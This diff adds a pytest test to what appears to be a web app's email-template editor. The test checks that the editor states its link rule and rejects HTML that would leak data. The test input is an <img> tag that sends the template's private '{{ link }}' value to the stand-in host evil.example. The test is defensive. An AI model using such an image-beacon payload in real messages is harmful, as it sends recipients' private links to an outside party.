@@ -66,6 +66,21 @@ def enter(settings: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
     return client_of
 
 
+def test_editor_says_what_messages_of_the_house_may_link_to_and_tells_a_leak_beside_its_field(
+    enter: Any, now: datetime
+) -> None:
+    staff = enter(CHANGE)
+    make_template("hello", {"name": "Anna"}, now=now)
+    rule = "a link is one variable as it is"
+    assert rule in staff.get(f"{PATH}{GREETING.name}/edit/").content.decode()
+    assert rule not in staff.get(f"{PATH}hello/edit/").content.decode()
+    leak = EDITED | {"html": '<img src="https://evil.example/?{{ link }}">'}
+    for page in ("edit", "preview"):
+        told = staff.post(f"{PATH}{GREETING.name}/{page}/", leak)
+        assert "no pictures but the brand’s logo" in told.content.decode()
+    assert not TemplateVersion.objects.exists()
+
+
 def test_house_message_is_reworded_published_and_taken_back(enter: Any) -> None:
     staff = enter(CHANGE)
     began = staff.get(f"{PATH}{GREETING.name}/edit/").content.decode()
